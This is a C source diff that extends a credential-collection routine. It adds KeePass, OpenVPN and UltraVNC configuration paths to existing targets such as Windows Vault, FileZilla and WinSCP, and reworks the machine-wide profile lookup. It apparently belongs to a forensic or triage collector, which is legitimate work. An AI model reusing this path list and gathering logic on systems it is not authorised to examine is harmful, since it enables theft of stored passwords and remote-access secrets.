@@ -329,6 +329,8 @@ static const struct place {
     {LOCAL "Comms/UnistoreDB/store.vol", mail_store},
     {ROAMING "FileZilla", file_zilla},
     {XP_ROAMING "FileZilla", file_zilla},
+    {ROAMING "KeePass/KeePass.config.xml", read_itself},
+    {XP_ROAMING "KeePass/KeePass.config.xml", read_itself},
     {ROAMING "WinSCP.ini", read_itself},
     {XP_ROAMING "WinSCP.ini", read_itself},
     {ROAMING "Microsoft/Network/Connections/Pbk/rasphone.pbk", read_itself},
@@ -437,6 +439,13 @@ static enum ac_rc collect_profile(struct ac_collector *c, const struct ac_system
     return q.rc;
 }
 
+static void vpn(struct search *q, ac_node folder)
+{
+    static const char *const endings[] = {".ovpn", NULL};
+
+    read_below(q, folder, endings, 0);
+}
+
 static void wifi(struct search *q)
 {
     static const char *const endings[] = {".xml", NULL};
@@ -452,8 +461,17 @@ enum ac_rc ac_credentials_collect(struct ac_collector *c, const struct ac_system
     static const struct place machine[] = {
         {"ProgramData/Microsoft/Vault", vault},
         {"ProgramData/Microsoft/Network/Connections/Pbk/rasphone.pbk", read_itself},
+        {"Program Files/OpenVPN/config", vpn},
+        {"Program Files (x86)/OpenVPN/config", vpn},
+        {"Program Files/uvnc bvba/UltraVNC/ultravnc.ini", read_itself},
+        {"Program Files (x86)/uvnc bvba/UltraVNC/ultravnc.ini", read_itself},
+        {"Program Files/UltraVNC/ultravnc.ini", read_itself},
+        {"Program Files (x86)/UltraVNC/ultravnc.ini", read_itself},
     };
-    struct search q = {.c = c, .s = s, .user = "", .profile = s->root};
+    struct search q = {.c = c,
+                       .s = s,
+                       .user = "",
+                       .profile = ac_lookup(ac_system_tree(c, s), s->root, "ProgramData")};
 
     for (size_t i = 0; i < sizeof(machine) / sizeof(machine[0]) && going(&q); i++) {
         ac_node node = ac_lookup(tree_of(&q), s->root, machine[i].path);
@@ -463,5 +481,7 @@ enum ac_rc ac_credentials_collect(struct ac_collector *c, const struct ac_system
     }
     if (going(&q))
         wifi(&q);
+    if (q.profile != AC_NODE_NONE)
+        send_row(&q);
     return q.rc == AC_OK ? ac_users_each(c, s, collect_profile, NULL) : q.rc;
 }
